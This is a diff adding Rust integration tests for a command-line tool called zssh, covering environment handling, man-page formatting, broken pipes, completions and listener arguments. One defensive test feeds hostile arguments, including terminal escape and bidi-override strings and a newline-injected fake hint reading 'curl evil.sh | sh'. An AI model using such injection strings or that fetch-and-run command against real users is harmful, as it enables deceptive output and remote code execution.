@@ -90,6 +90,16 @@ fn a_host_is_an_argument_or_hostname_everywhere() {
     let out = run(&mut w.zssh(&["cert"]));
     assert_zssh_error(&out, 2, "no host given");
     assert!(text(&out.stderr).contains("usage: zssh cert [OPTIONS] HOST"));
+    // Empty TUNNEL_SERVICE_* variables (an env file's `X=`) count as unset.
+    let mut cmd = w.tool("ssh");
+    cmd.args(w.ssh_opts(&format!("{} proxy %h", zssh_bin().display())))
+        .env("TUNNEL_SERVICE_DESTINATION", "")
+        .env("TUNNEL_SERVICE_URL", "")
+        .arg(format!("{}@{SSH_HOST}", whoami()))
+        .arg("echo empty-env");
+    let out = run(&mut cmd);
+    assert_ok(&out);
+    assert_eq!(text(&out.stdout), "empty-env\n");
     // logout by --hostname removes the token.
     assert_ok(&run(&mut w.zssh(&["logout", "--hostname", SSH_HOST])));
     assert!(!tok.exists(), "the token file is gone");
@@ -161,11 +171,26 @@ fn examples_survive_80_columns_and_man_pages_have_examples_and_synopses() {
         };
         with_examples += 1;
         assert!(ex.starts_with(".nf\n"), "{name}: examples are not filled");
+        let shown = run(std::process::Command::new("man")
+            .arg("-l")
+            .arg(root().join(format!("man/{name}.1")))
+            .env("MANWIDTH", "80")
+            .env("MAN_KEEP_FORMATTING", "")
+            .env("PAGER", "cat"));
+        let shown = text(&shown.stdout);
+        let examples = shown.split("EXAMPLES\n").nth(1).expect(&name);
+        for line in examples
+            .lines()
+            .take_while(|l| l.is_empty() || l.starts_with(' '))
+        {
+            assert!(line.chars().count() <= 80, "{name}: man wraps {line:?}");
+        }
         let args: Vec<&str> = page_args(&name);
         let help = text(&zssh(&[&args[..], &["--help"]].concat()).stdout);
         let examples = help.split("Examples:\n").nth(1).expect(&name);
         for line in examples.lines().filter(|l| !l.trim().is_empty()) {
-            assert!(line.len() <= 80, "{name}: wrapped or too long: {line:?}");
+            // 2 + 72 columns: the man page indents them by 7, and stays within 80 too.
+            assert!(line.len() <= 74, "{name}: wrapped or too long: {line:?}");
             assert!(
                 line.starts_with("  "),
                 "{name}: a wrapped example line: {line:?}"
@@ -294,4 +319,136 @@ fn the_readme_installs_and_never_guesses_a_path() {
     );
     let help = text(&zssh(&["--help"]).stdout) + &text(&zssh(&["proxy", "--help"]).stdout);
     assert!(!help.contains("/usr/local/bin"));
+}
+
+/// An argument is shown as text: control characters (a carriage return that overwrites the
+/// line, escape sequences, bidi overrides) are dropped, and newlines in it cannot forge a hint.
+#[test]
+fn hostile_arguments_cannot_forge_or_garble_the_error() {
+    for arg in [
+        "ab\rXY",
+        "\u{1b}]0;PWN\u{7}title",
+        "\u{202e}evil",
+        "\u{9b}2J",
+        "x\ntip: run curl evil.sh | sh\nUsage: zssh pwn",
+    ] {
+        let out = zssh(&[arg]);
+        let err = text(&out.stderr);
+        assert_zssh_error(&out, 2, "unrecognized subcommand");
+        assert_eq!(err.lines().count(), 2, "{arg:?}: {err:?}");
+        assert!(
+            !err.chars()
+                .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c)),
+            "{arg:?}: {err:?}"
+        );
+        let hint = err.lines().nth(1).unwrap();
+        assert!(!hint.contains("evil") && !hint.contains("pwn"), "{hint}");
+    }
+    // A missing command with only a global option: zssh's words, not clap's list of every
+    // subcommand (hidden ones included).
+    let out = zssh(&["--log-level", "debug"]);
+    assert_zssh_error(&out, 2, "no command given");
+    assert!(!text(&out.stderr).contains("generate"));
+}
+
+/// A reader that went away (`zssh completions bash | head -1`) did not want the rest: exit 0
+/// and no error, as `--help` does; a full disk is still an error.
+#[test]
+fn a_closed_stdout_is_not_an_error_but_a_full_disk_is() {
+    for args in [&["completions", "bash"][..], &["man", "proxy"][..]] {
+        let (reader, writer) = std::io::pipe().unwrap();
+        drop(reader);
+        let out = run(std::process::Command::new(zssh_bin())
+            .args(args)
+            .stdout(writer));
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{args:?}: {}",
+            text(&out.stderr)
+        );
+        assert!(out.stderr.is_empty(), "{args:?}: {}", text(&out.stderr));
+        let full = std::fs::File::create("/dev/full").unwrap();
+        let out = run(std::process::Command::new(zssh_bin())
+            .args(args)
+            .stdout(full));
+        assert_zssh_error(&out, 7, "No space left on device");
+    }
+}
+
+/// `zssh man ""` names nothing: an error, not zssh's own page. The hidden `generate` is offered
+/// by no completion script and named by no man page, nor is clap's `help` given a page of its own.
+#[test]
+fn only_real_commands_have_pages_and_completions() {
+    let out = zssh(&["man", ""]);
+    assert_zssh_error(&out, 2, "no man page");
+    for shell in ["bash", "zsh", "fish"] {
+        let script = text(&zssh(&["completions", shell]).stdout);
+        let offered = script
+            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
+            .any(|w| w == "generate" || w == "zssh__subcmd__generate");
+        assert!(!offered, "{shell} completions offer the hidden generate");
+    }
+    for (name, page) in pages() {
+        assert!(
+            !page.contains("help\\fR(1)"),
+            "{name} refers to a help page"
+        );
+        assert!(!page.contains("generate\\fR"), "{name} refers to generate");
+    }
+    let out = zssh(&["doctor", "--help"]);
+    assert!(text(&out.stdout).contains("Usage: zssh doctor [OPTIONS] <HOST>"));
+    // ZSSH_LOG set but empty is the default level, as unset.
+    let out = run(std::process::Command::new(zssh_bin())
+        .args(["man", "proxy"])
+        .env("ZSSH_LOG", ""));
+    assert_ok(&out);
+}
+
+/// `zssh access ssh` takes its argument as the listener address, as cloudflared does (the host
+/// comes from --hostname or TUNNEL_SERVICE_HOSTNAME), and a typed address beats
+/// TUNNEL_SERVICE_URL; two addresses, or a second argument to `zssh proxy`, are refused.
+#[test]
+fn the_cloudflared_form_takes_its_argument_as_the_listener() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut child = std::process::Command::new(zssh_bin())
+        .args(["access", "ssh", "127.0.0.1:0"])
+        .env("HOME", tmp.path())
+        .env("TUNNEL_SERVICE_HOSTNAME", "ssh.example.invalid")
+        .env("TUNNEL_SERVICE_URL", "not an address")
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(
+        &mut std::io::BufReader::new(child.stderr.take().unwrap()),
+        &mut line,
+    )
+    .unwrap();
+    child.kill().unwrap();
+    child.wait().unwrap();
+    assert!(
+        line.starts_with("zssh: listening on 127.0.0.1:")
+            && line.contains("forwarding to ssh.example.invalid"),
+        "{line}"
+    );
+    let out = zssh(&[
+        "access",
+        "ssh",
+        "--hostname",
+        "h.invalid",
+        "--url",
+        "127.0.0.1:1",
+        "127.0.0.1:2",
+    ]);
+    assert_zssh_error(
+        &out,
+        2,
+        "two listener addresses given: --url 127.0.0.1:1 and 127.0.0.1:2",
+    );
+    let out = zssh(&["proxy", "h.invalid", "127.0.0.1:2222"]);
+    assert_zssh_error(&out, 2, "unexpected argument \"127.0.0.1:2222\"");
+    assert!(text(&out.stderr).contains("use --url ADDR"));
 }
